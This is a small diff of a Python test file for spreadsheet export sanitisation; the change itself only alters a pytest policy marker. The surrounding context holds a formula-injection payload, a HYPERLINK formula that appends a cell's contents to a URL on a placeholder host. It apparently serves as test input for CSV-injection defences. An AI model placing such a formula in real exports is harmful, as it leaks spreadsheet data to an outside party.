@@ -12,7 +12,7 @@ from core.exports import FORMULA_STARTS, csv_text, spreadsheet_safe
 from staff.roles import PRIVACY_HANDLER
 from tests.staff.downloads import export_form
 
-pytestmark = pytest.mark.policy("9")
+pytestmark = pytest.mark.policy("9 나")
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Click")'
 
